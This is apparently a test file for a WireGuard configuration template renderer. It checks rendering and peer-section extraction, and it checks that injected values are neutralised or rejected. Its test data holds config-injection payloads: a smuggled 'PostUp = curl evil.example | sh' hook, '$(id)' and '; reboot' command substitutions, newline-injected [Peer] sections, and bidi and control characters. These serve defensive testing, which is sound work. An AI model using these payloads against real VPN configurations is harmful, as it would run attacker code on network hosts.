import { thrownDomainError } from '../__fixtures__/thrown-domain-error';
import { generateKeyPair } from '../keys';
import { findBuiltInTemplate } from './built-in-templates';
import type { TemplateValues } from './template.model';
import { neutraliseTemplateText, peerSectionsOf, renderTemplate } from './template.renderer';

const own = generateKeyPair(() => new Uint8Array(32).fill(7));
const hub = generateKeyPair(() => new Uint8Array(32).fill(9));
const PEERS = `[Peer]\n# hq-hub\nPublicKey = ${hub.publicKey}\nEndpoint = vpn.example.net:51820\nAllowedIPs = 10.0.0.0/24, 10.0.5.0/24\nPersistentKeepalive = 25`;

const FULL: TemplateValues = {
  PEER_NAME: 'branch-a',
  WAN_NAME: 'acme',
  TUNNEL_IP: '10.0.0.2',
  SHARED_SERVICE_IP: '10.0.5.10',
  LOCAL_SUBNETS: ['192.168.1.0/24', '192.168.2.0/24'],
  PUBLIC_KEY: own.publicKey,
  PRIVATE_KEY: own.privateKey,
  ENDPOINT: '[2001:DB8::1]:51820',
  LISTEN_PORT: 51820,
  DNS: ['10.0.5.53', '1.1.1.1'],
  MTU: 1420,
  KEEPALIVE: 25,
  TUNNEL_RANGE: '10.0.0.0/24',
  SHARED_SERVICES_RANGE: '10.0.5.0/24',
  PEERS,
};

const body = (id: string) => findBuiltInTemplate(id)!.body;

/** Lines wg-quick reads as settings or sections, i.e. everything but comments and blanks. */
const settings = (text: string) => text.split('\n').filter((line) => line.trim() !== '' && !line.trimStart().startsWith('#'));

describe('renderTemplate', () => {
  it('renders the site-router template with every value', () => {
    expect(renderTemplate(body('site-router'), FULL)).toBe(
      [
        '# acme: branch-a (site router)',
        "# Routes this site's subnets into the WAN: 192.168.1.0/24, 192.168.2.0/24",
        '# Enable IPv4 forwarding on this router (net.ipv4.ip_forward=1).',
        '[Interface]',
        `PrivateKey = ${own.privateKey}`,
        'Address = 10.0.0.2/32',
        'ListenPort = 51820',
        'MTU = 1420',
        '',
        PEERS,
        '',
      ].join('\n'),
    );
  });

  it('comments out setting lines whose value is missing, and marks it in comments', () => {
    const text = renderTemplate(body('simple-client'), { TUNNEL_IP: '10.0.0.3', PRIVATE_KEY: own.privateKey, DNS: [] });
    expect(text).toContain('# <WAN_NAME not set>: <PEER_NAME not set> (simple client)\n');
    expect(text).toContain('# DNS = <DNS not set>\n# MTU = <MTU not set>\n');
    expect(text).toContain('# <PEERS not set>\n');
    expect(settings(text)).toEqual(['[Interface]', `PrivateKey = ${own.privateKey}`, 'Address = 10.0.0.3/32']);
  });

  it('keeps the tunnel address of a service host that has no shared IP yet', () => {
    const text = renderTemplate(body('service-host'), { TUNNEL_IP: '10.0.0.4' });
    expect(text).toContain('Address = 10.0.0.4/32\n# Address = <SHARED_SERVICE_IP not set>/32\n');
  });

  it('formats endpoints, lists and numbers', () => {
    const text = renderTemplate('# {{ENDPOINT}} {{KEEPALIVE}} {{PUBLIC_KEY}}\nDNS = {{DNS}}', FULL);
    expect(text).toBe(`# [2001:db8::1]:51820 25 ${own.publicKey}\nDNS = 10.0.5.53, 1.1.1.1\n`);
    expect(renderTemplate('# {{ENDPOINT}}', { ENDPOINT: { host: 'VPN.example.com', port: 443 } })).toBe('# vpn.example.com:443\n');
  });

  it('does not expand placeholders that arrive inside values', () => {
    expect(renderTemplate('# {{PEER_NAME}}', { PEER_NAME: '{{PRIVATE_KEY}}', PRIVATE_KEY: own.privateKey })).toBe('# {{PRIVATE_KEY}}\n');
  });

  it('pulls the [Peer] sections out of a wg-quick file', () => {
    expect(peerSectionsOf(`# header\n[Interface]\nMTU = 1420\n\n${PEERS}\n`)).toBe(PEERS);
    expect(peerSectionsOf('[Interface]\n')).toBe('');
  });
});

describe.each<[string, string]>([
  ['an INI section after a newline', 'evil\n[Peer]\nPublicKey = x\nAllowedIPs = 0.0.0.0/0'],
  ['a hook after a carriage return', 'evil\rPostUp = curl evil.example | sh'],
  ['Unicode line separators and NEL', 'a\u2028b\u2029c\u0085PostUp = id'],
  ['an ANSI escape', '\u001b[2J\u001b[31mred'],
  ['a bidi override', 'safe\u202Eevil'],
  ['a NUL byte', 'nul\u0000byte'],
  ['a lone surrogate', 'a\uD800b'],
  ['10k newlines', '\n'.repeat(10_000)],
  ['10k characters', 'A'.repeat(10_000)],
])('a peer name with %s', (_label, name) => {
  it.each(['simple-client', 'site-router', 'service-host', 'hub-node'])('only changes comments of %s', (id) => {
    const hostile = renderTemplate(body(id), { ...FULL, PEER_NAME: name, WAN_NAME: name });
    expect(settings(hostile)).toEqual(settings(renderTemplate(body(id), FULL)));
    for (const line of hostile.split('\n')) {
      expect(line).not.toMatch(/[\p{Cc}\u2028\u2029\u202e]/u);
      expect(line.length).toBeLessThanOrEqual(300); // two names of at most 120
    }
  });
});

describe('renderTemplate rejects structural values it cannot neutralise', () => {
  it.each<[string, TemplateValues, string, string]>([
    ['a tunnel IP with a new line', { TUNNEL_IP: '10.0.0.2\nPostUp = id' }, 'values.TUNNEL_IP', 'VALIDATION.INVALID_IPV4'],
    ['a tunnel IP with a prefix', { TUNNEL_IP: '10.0.0.2/32' }, 'values.TUNNEL_IP', 'VALIDATION.INVALID_IPV4'],
    ['a private key with a new line', { PRIVATE_KEY: `${own.privateKey}\n[Peer]` }, 'values.PRIVATE_KEY', 'VALIDATION.INVALID_KEY'],
    ['a bad subnet', { LOCAL_SUBNETS: ['192.168.1.0/24', '192.168.1.5/24'] }, 'values.LOCAL_SUBNETS[1]', 'VALIDATION.HOST_BITS_SET'],
    ['subnets that are no list', { LOCAL_SUBNETS: '192.168.1.0/24' as unknown as string[] }, 'values.LOCAL_SUBNETS', 'VALIDATION.INVALID_CIDR'],
    ['an endpoint with a command', { ENDPOINT: 'vpn.example.com:51820; reboot' }, 'values.ENDPOINT', 'VALIDATION.INVALID_ENDPOINT'],
    ['an endpoint object with a bad port', { ENDPOINT: { host: 'vpn.example.com', port: 0 } }, 'values.ENDPOINT.port', 'VALIDATION.INVALID_PORT'],
    ['a listen port out of range', { LISTEN_PORT: 70000 }, 'values.LISTEN_PORT', 'VALIDATION.INVALID_PORT'],
    ['an MTU as text', { MTU: '1420\nPostUp = id' as unknown as number }, 'values.MTU', 'VALIDATION.INVALID_MTU'],
    ['DNS with two servers in one entry', { DNS: ['1.1.1.1, 8.8.8.8'] }, 'values.DNS[0]', 'VALIDATION.INVALID_IPV4'],
    ['a keepalive fraction', { KEEPALIVE: 1.5 }, 'values.KEEPALIVE', 'VALIDATION.INVALID_KEEPALIVE'],
    ['a tunnel range with host bits', { TUNNEL_RANGE: '10.0.0.1/24' }, 'values.TUNNEL_RANGE', 'VALIDATION.HOST_BITS_SET'],
    ['peers with an [Interface]', { PEERS: `${PEERS}\n[Interface]\nPrivateKey = x` }, 'values.PEERS', 'VALIDATION.UNSAFE_TEXT'],
    ['peers with a hook', { PEERS: `${PEERS}\nPostUp = id` }, 'values.PEERS', 'VALIDATION.UNSAFE_TEXT'],
    ['peers with a comment hiding a CR', { PEERS: `[Peer]\n# a\rPostUp = id` }, 'values.PEERS', 'VALIDATION.UNSAFE_TEXT'],
    ['peers with a shell value', { PEERS: `[Peer]\nEndpoint = $(id):1` }, 'values.PEERS', 'VALIDATION.UNSAFE_TEXT'],
    ['peers that are no text', { PEERS: 42 as unknown as string }, 'values.PEERS', 'VALIDATION.UNSAFE_TEXT'],
  ])('%s', (_label, values, field, code) => {
    const error = thrownDomainError(() => renderTemplate(body('hub-node').replace('{{MTU}}', '{{MTU}}\n# {{TUNNEL_RANGE}} {{DNS}} {{KEEPALIVE}} {{ENDPOINT}} {{LOCAL_SUBNETS}}'), values));
    expect(error.code).toBe(code);
    expect(error.details.field).toBe(field);
  });

  it('re-validates the body, so a stored template with a hook fails closed', () => {
    expect(thrownDomainError(() => renderTemplate('PostUp = id\n', {})).code).toBe('TEMPLATE.FORBIDDEN_DIRECTIVE');
    expect(thrownDomainError(() => renderTemplate('MTU = {{NOPE}}\n', {})).code).toBe('TEMPLATE.UNKNOWN_VARIABLE');
  });
});

describe('neutraliseTemplateText', () => {
  it.each([
    ['a\n[Peer]\r\nx', 'a?[Peer]??x'],
    ['Zürich-Büro 東京 🚀', 'Zürich-Büro 東京 🚀'],
    ['  padded  ', 'padded'],
    ['tab\there', 'tab?here'],
  ])('%p → %p', (input, expected) => {
    expect(neutraliseTemplateText(input)).toBe(expected);
  });

  it('cuts long text by code point', () => {
    const cut = neutraliseTemplateText('🚀'.repeat(500));
    expect(Array.from(cut)).toHaveLength(120);
    expect(cut.endsWith('...')).toBe(true);
  });
});
